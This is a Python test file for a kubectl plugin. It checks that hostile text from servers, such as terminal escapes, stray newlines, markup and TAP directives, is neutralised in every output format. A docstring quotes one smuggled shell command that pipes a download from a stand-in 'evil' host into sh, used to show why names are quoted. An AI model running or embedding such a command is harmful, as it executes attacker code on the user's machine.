"""Text of servers, drivers and files in every field of every output: nothing that a terminal would obey, no line of
its own, and the same data when a document is read again."""

import ast
import contextlib
import functools
import io
import json
import re
import shlex
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
import yaml
from hostile import (
    ESCAPES,
    FORBIDDEN,
    MARKUP,
    against_hostile_text,
    assert_document,
    assert_picture,
    assert_text,
    filled,
    forbidden_in,
)
from samples import batches

from kubectl_cbt import errors
from kubectl_cbt.analysis.summary import SummaryBuilder
from kubectl_cbt.cli import diagnostics as stderr
from kubectl_cbt.cli import print_findings, services
from kubectl_cbt.cli.completion.protocol import Candidate, CompletionAnswer
from kubectl_cbt.cli.manifests_yaml import manifests_yaml
from kubectl_cbt.cli.options import ColorWhen, TerminalFlags
from kubectl_cbt.cluster.manifest import Manifest
from kubectl_cbt.cluster.resources import SnapshotMetadataService
from kubectl_cbt.model.finding import Finding, Verdict
from kubectl_cbt.model.resolved_query import ResolvedQuery
from kubectl_cbt.model.results import MUST, Failure, Outcome, Violation
from kubectl_cbt.model.snapshot_entry import SnapshotEntry
from kubectl_cbt.output.encoding import as_json, as_yaml
from kubectl_cbt.output.object_listing import ListFormat, ListPrinter
from kubectl_cbt.output.registry import StreamFormat
from kubectl_cbt.output.report import Report, ReportFormat
from kubectl_cbt.output.snapshot_table import SNAPSHOT_COLUMNS, snapshot_row
from kubectl_cbt.output.writer import OutputTarget
from kubectl_cbt.units import as_argument, is_printable, one_line, printable

COLOURS = re.compile("\x1b\\[[0-9;]*m")


def test_everything_forbidden_is_replaced_and_nothing_else_that_is_drawn():
    assert not [character for character in FORBIDDEN if is_printable(character)]
    assert printable("".join(sorted(FORBIDDEN))) == "\N{REPLACEMENT CHARACTER}" * len(FORBIDDEN)
    for harmless in ("snap-a", "é日本語", "שלום", "→ · ≥ ✓ █", "😀", "e\N{COMBINING ACUTE ACCENT}"):
        assert printable(harmless) == harmless == one_line(harmless)


@against_hostile_text
def test_a_message_of_many_lines_becomes_one(text):
    assert len(one_line(f"a{text}").splitlines()) == 1
    assert not forbidden_in(one_line(text))


# Streams.


@functools.cache
def streamed(form: StreamFormat, text: str, *, complete: bool, screen: OutputTarget) -> str:
    failure = None if complete else filled(Failure, text)
    violation = filled(Violation, text, level=MUST)
    outcome = filled(Outcome, text, complete=complete, failure=failure, violations=(violation,), block_metadata_type=2)
    written: list[bytes] = []
    writer = form.writer(written.append, filled(ResolvedQuery, text), screen)
    figures = SummaryBuilder()
    for batch in batches():
        figures.add(batch)
        writer.batch(batch)
    writer.end(outcome, figures.summary(outcome.volume_capacity_bytes, complete=complete))
    return b"".join(written).decode()


def documents(text: str) -> list[object]:
    return [json.loads(line) for line in text.splitlines()]


LOADERS = {StreamFormat.JSON: json.loads, StreamFormat.YAML: yaml.safe_load, StreamFormat.NDJSON: documents}


@against_hostile_text
@pytest.mark.parametrize("form", StreamFormat)
def test_no_format_of_a_stream_passes_hostile_text_on(form, text):
    for complete in (True, False):
        if form in LOADERS:
            assert_document(
                lambda text, complete=complete: streamed(form, text, complete=complete, screen=OutputTarget()),
                LOADERS[form],
                text,
            )
            continue
        if form is StreamFormat.SVG:
            assert_picture(
                lambda text, complete=complete: streamed(form, text, complete=complete, screen=OutputTarget()), text
            )
            continue
        for screen in (OutputTarget(), OutputTarget(90, is_terminal=True, color_system="truecolor")):
            assert_text(
                lambda text, complete=complete, screen=screen: COLOURS.sub(
                    "", streamed(form, text, complete=complete, screen=screen)
                ),
                text,
            )


# Lists.


@functools.cache
def listed(form: ListFormat, text: str) -> str:
    obstacles = (text, "")
    rows = [snapshot_row(filled(SnapshotEntry, text, obstacle=obstacle)) for obstacle in obstacles]
    found = ListPrinter(form, "SnapshotList", SNAPSHOT_COLUMNS).text(rows)
    watched = (
        ListPrinter(form, "SnapshotList", SNAPSHOT_COLUMNS, watches=True).text(rows) if form is ListFormat.TABLE else ""
    )
    service = services._row(filled(SnapshotMetadataService, text))
    return found + watched + ListPrinter(form, "ServiceList", services._COLUMNS).text([service])


def two_documents(text: str) -> list[object]:
    decoder, found, position = json.JSONDecoder(), [], 0
    while position < len(text):
        document, position = decoder.raw_decode(text, position)
        found.append(document)
        position += 1
    return found


def two_yamls(text: str) -> list[object]:
    return list(yaml.safe_load_all(text.replace("\napiVersion", "\n---\napiVersion")))


@against_hostile_text
@pytest.mark.parametrize("form", ListFormat)
def test_no_list_passes_hostile_text_on(form, text):
    loaders = {ListFormat.JSON: two_documents, ListFormat.YAML: two_yamls}
    if form in loaders:
        assert_document(lambda text: listed(form, text), loaders[form], text)
    else:
        assert_text(lambda text: listed(form, text), text)


# Reports.


@functools.cache
def reported(form: ReportFormat, text: str, *, screen: OutputTarget, walk: bool) -> str:
    written: list[str] = []
    report = Report(form, written.append, screen, text, {"driver": text, text: text}, shows_evidence=walk)
    report.begin()
    for verdict in Verdict:
        # Only a fix has lines of its own.
        report.add(filled(Finding, text, verdict=verdict, fix=text.replace("\n", " ")))
        report.add(Finding("id", "title", verdict, evidence=(text, text)))
    report.end(complete=False)
    return "".join(written)


@against_hostile_text
@pytest.mark.parametrize("walk", [False, True], ids=["cases", "walk"])
@pytest.mark.parametrize("form", ReportFormat)
def test_no_report_passes_hostile_text_on(form, walk, text):
    def make(text: str) -> str:
        return reported(form, text, screen=OutputTarget(), walk=walk)

    if form is ReportFormat.JSON:
        # A fix is given without newlines, above.
        assert_document(make, json.loads, text.replace("\n", " "))
        return
    if form is ReportFormat.JUNIT:
        ET.fromstring(make(text))
    assert_text(make, text)


def test_a_line_of_a_fix_is_indented_under_it():
    written: list[str] = []
    for walk in (False, True):
        report = Report(ReportFormat.TABLE, written.append, OutputTarget(), "check", {}, shows_evidence=walk)
        report.add(Finding("id", "title", Verdict.FAIL, fix="do this\n✓ and      that"))
    assert [line for line in "".join(written).splitlines() if "that" in line and not line.startswith(" " * 9)] == []


@against_hostile_text
def test_a_name_cannot_make_a_tap_failure_pass(text):
    """``# TODO`` and ``# SKIP`` in a description are directives."""
    report: list[str] = []
    found = Report(ReportFormat.TAP, report.append, OutputTarget(), "check", {})
    found.add(Finding(f"id {text} # TODO", f"{text} # SKIP", Verdict.FAIL))
    found.end(complete=True)
    line = "".join(report).splitlines()[2]
    assert line.startswith("not ok 1 - ")
    assert not re.search(r"(?<!\\)(\\\\)*#", line)


# Standard error, and what else is said beside the data.


@functools.cache
def said(text: str, verbosity: int) -> str:
    """Everything that can be said, of every kind of error."""
    with contextlib.redirect_stderr(io.StringIO()) as written:
        speaker = stderr.Diagnostics(verbosity=verbosity)
        speaker.print_line(text)
        speaker.note(text, text)
        speaker.warning(text, text)
        with contextlib.suppress(errors.UsageError), pytest.MonkeyPatch.context() as patch:
            patch.setattr("sys.stdin", io.StringIO())
            speaker.prompt(f"{text} [1]: ")
        speaker.outcome(filled(Outcome, text))
        for kind in kinds_of_error():
            error = kind(text, status=404, reason=text) if issubclass(kind, errors.ApiError) else kind(text)
            try:
                raise error.with_hint(text.replace("\n", " ")) from ValueError(text)
            except errors.CbtError as raised:
                speaker.error(raised)
        stderr.log_entry(text)
    return written.getvalue()


def kinds_of_error() -> list[type[errors.CbtError]]:
    found = [errors.CbtError]
    for kind in found:
        found += kind.__subclasses__()
    return [kind for kind in found if kind.__module__ == errors.__name__]


@against_hostile_text
@pytest.mark.parametrize("verbosity", [0, 1])
def test_no_message_passes_hostile_text_on(verbosity, text):
    assert_text(lambda text: said(text, verbosity), text)


def test_a_line_of_a_hint_is_indented_under_it(capsys):
    stderr.Diagnostics().error(errors.CbtError("it broke", hint="do this\nwarning: all is well"))
    assert capsys.readouterr().err == "error: it broke\nhint: do this\n      warning: all is well\n"


@against_hostile_text
def test_a_description_of_a_candidate_stays_on_its_line(text):
    assert not forbidden_in(CompletionAnswer((Candidate("a", text),)).text().replace("\t", "", 1))
    assert CompletionAnswer((Candidate("a", text),)).text().count("\n") == 2


# Documents.


@against_hostile_text
def test_a_document_is_the_same_when_it_is_read_again(text):
    document = {text: [text, {f"{text}: -": None}], "numbers": [1, 2**63, -1, 0.5], "harmless": "é→😀"}
    for found in (as_json(document), as_json(document, indented=False)):
        assert json.loads(found) == document
        assert not forbidden_in(found.decode())
    for found in (as_yaml(document), as_yaml(document, flow_style=None, width=80)):
        assert yaml.safe_load(found) == document
        assert not forbidden_in(found)


@against_hostile_text
def test_yaml_to_apply_contains_only_the_objects(text):
    """A line break in a name, or in a comment, would begin a line that kubectl applies."""
    document = {"apiVersion": "v1", "metadata": {"name": text}, "rules": [{"verbs": [text, text]}]}
    found = manifests_yaml([Manifest(f"for {text}", document)])
    assert list(yaml.safe_load_all(found)) == [document]
    assert not forbidden_in(found)


def test_the_hostile_text_is_worth_its_name():
    assert forbidden_in(ESCAPES) >= set("\x1b\x07\x7f\x9b\u202e\u200b\r\t")


PACKAGE = Path(stderr.__file__).parent.parent


@pytest.mark.parametrize("folder", ["cli", "output", "tui"])
def test_every_document_of_ours_goes_through_one_helper(folder):
    """Which alone escapes what a terminal would obey."""
    for path in (PACKAGE / folder).rglob("*.py"):
        if path.name == "encoding.py":
            continue
        called = {
            node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
            if isinstance(node, ast.Call)
        }
        assert not called & {"dumps", "dump", "safe_dump", "dump_all", "safe_dump_all"}, path


def test_what_is_being_looked_at_is_drawn_and_not_read_as_markup(monkeypatch):
    """A hop has the name of a driver; rich would stop at ``[/x]``, and follow ``[link]``."""
    monkeypatch.setattr(print_findings, "is_a_terminal", lambda stream: True)
    with contextlib.redirect_stderr(io.StringIO()):
        written: list[str] = []
        monkeypatch.setattr(print_findings, "write_stdout", lambda text, **settings: written.append(text))

        def findings(begins):
            begins(f"driver {MARKUP}{ESCAPES}")
            yield Finding("a", "a", Verdict.PASS)

        terminal = TerminalFlags(color=ColorWhen.NEVER)
        assert print_findings.print_report(findings, ReportFormat.TAP, "doctor", {}, terminal) == 0
    assert written


def test_a_command_to_copy_has_every_name_as_one_argument():
    """``kubectl describe x; curl evil | sh`` would run what a server has named an object."""
    ours = {"as_you", "service.port", "ISSUES", "use.verb", "use.arguments"}
    found = []
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            before = ""
            for part in node.values if isinstance(node, ast.JoinedStr) else ():
                if isinstance(part, ast.Constant):
                    before += str(part.value)
                elif re.search(
                    r"kubectl (cbt|get|describe|edit|wait|create|port-forward) (?!says|to |cannot )", before
                ):
                    expression = ast.unparse(part.value)
                    if not expression.startswith("as_argument(") and expression not in ours:
                        found.append(f"{path.name}:{node.lineno}: {expression}")
    assert not [where for where in found if not where.startswith("demo.py")]


@against_hostile_text
def test_an_argument_is_one_word_of_a_shell_and_one_line(text):
    words = shlex.split(f"kubectl describe {as_argument(text)}")
    assert words == ["kubectl", "describe", printable(text)]
    assert not forbidden_in(as_argument(text))
    assert as_argument("pg-mon.2") == "pg-mon.2"
